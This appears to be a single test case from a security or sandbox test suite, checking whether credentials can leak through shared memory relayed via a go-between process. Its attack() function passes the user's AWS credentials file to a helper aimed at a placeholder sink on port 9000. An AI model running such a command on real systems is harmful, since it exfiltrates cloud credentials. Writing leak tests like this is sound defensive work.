# SPDX-License-Identifier: Apache-2.0
TITLE="memory shared with a go-between, who shares other memory with the sender"
attack() { "$PROVOKE/shm" chain "$HOME/.aws/credentials" "$SINK4" 9000; }
